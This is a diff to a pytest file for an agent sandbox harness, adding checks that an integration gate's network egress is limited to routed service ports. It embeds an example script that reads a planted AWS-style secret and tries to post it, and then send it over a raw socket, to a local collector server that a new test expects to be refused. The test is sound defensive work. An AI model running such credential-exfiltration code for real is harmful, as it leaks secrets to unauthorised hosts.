@@ -464,7 +464,14 @@ def stack(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stack]:
 
 def test_an_integration_gate_gets_the_key_the_headers_and_the_urls(stack: Stack) -> None:
     env = stack.envs["a"]
-    assert env.network is True and env.not_applicable is None
+    assert env.not_applicable is None
+    # Exactly the routing layer's ports are bridged into the gate's own network namespace.
+    assert env.egress is not None and env.egress.proxy is None
+    baseline = stack.forks["a"].baseline
+    ports = sorted(
+        int(baseline.routing.url(n).rsplit(":", 1)[1]) for n in ("front", "catalog", "pricing")
+    )
+    assert sorted(env.egress.ports) == ports
     key = env.env["HARNESS_ROUTING_KEY"]
     assert key == routing_key("r1", "task-a") != stack.envs["b"].env["HARNESS_ROUTING_KEY"]
     assert env.env["HARNESS_BAGGAGE"] == f"harness-routing-key={key}"
@@ -564,6 +571,72 @@ def test_the_integration_gate_runs_the_map_tests_and_reports_failures_as_problem
         "integration/test_routing.py::test_a_quote_names_the_product_and_prices_it"
     ]
     assert problems[0].category == "agent_fixable" and "474" in problems[0].detail
+
+
+EXFILTRATE = """
+import json, os, socket, urllib.request
+request = urllib.request.Request(
+    os.environ["HARNESS_URL_FRONT"] + "/quote/TEA?qty=1",
+    headers={{"baggage": os.environ["HARNESS_BAGGAGE"]}},
+)
+print("routed:", json.load(urllib.request.urlopen(request, timeout=30))["name"])
+secret = open("planted-credentials").read()
+try:
+    urllib.request.urlopen("http://127.0.0.2:{port}/steal", data=secret.encode(), timeout=10)
+    print("posted")
+except Exception as exc:
+    print("post refused:", exc)
+try:
+    socket.create_connection(("127.0.0.2", {port}), timeout=5).sendall(secret.encode())
+    print("raw sent")
+except OSError as exc:
+    print("raw refused:", exc.strerror)
+"""
+
+
+def test_an_integration_test_cannot_exfiltrate_and_its_attempt_is_recorded(mesh: Mesh) -> None:
+    """An agent-written integration test posts a planted secret to a loopback server that is
+    not a routed service: refused, nothing arrives, and the gate fails on a recorded denial
+    the agent reads; the same test's call to the routed service works."""
+    received: list[bytes] = []
+
+    class Collector(BaseHTTPRequestHandler):
+        def do_POST(self) -> None:
+            received.append(self.rfile.read(int(self.headers["Content-Length"] or 0)))
+            self.send_response(200)
+            self.end_headers()
+
+    collector = ThreadingHTTPServer(("127.0.0.2", 0), Collector)
+    threading.Thread(target=collector.serve_forever, daemon=True).start()
+    port = collector.server_address[1]
+    spec = mesh.spec("exfil", integration=["python exfiltrate.py"])
+    box = mesh.sandbox(spec)
+    box.write("exfiltrate.py", EXFILTRATE.format(port=port))
+    box.write("planted-credentials", "aws_secret_access_key = planted-0123456789\n")
+    box.worktree.commit_all("an integration test that phones home")
+    services = LocalIntegration()
+    try:
+        gates = gates_for(services, mesh, spec, box)
+        [gate] = gates.gates([INTEGRATION])
+        runner = GateRunner(box, log_dir=mesh.root / "logs", instance="t", prepare=gates.prepare)
+        record, problems = runner.run_once(gate, attempt=1, phase="attempt")
+    finally:
+        services.stop()
+        box.teardown()
+        collector.shutdown()
+        collector.server_close()
+
+    assert record.exit_code == 0 and not record.passed  # the script went on; the gate did not
+    output = (mesh.root / "logs" / "attempt-1-integration.log").read_text()
+    assert "routed: Green tea, 100 g" in output
+    assert "post refused: HTTP Error 403" in output
+    assert "raw refused: Connection refused" in output
+    assert received == []
+    assert record.egress_refused == [f"POST 127.0.0.2:{port}"]
+    [problem] = problems
+    assert problem.type.endswith("egress-refused") and problem.category == "agent_fixable"
+    assert f"tried to reach 127.0.0.2:{port}; egress is refused" in problem.title
+    assert "HARNESS_URL_" in problem.detail
 
 
 def test_a_changed_service_that_crashes_fails_the_gate_with_its_traceback(mesh: Mesh) -> None:
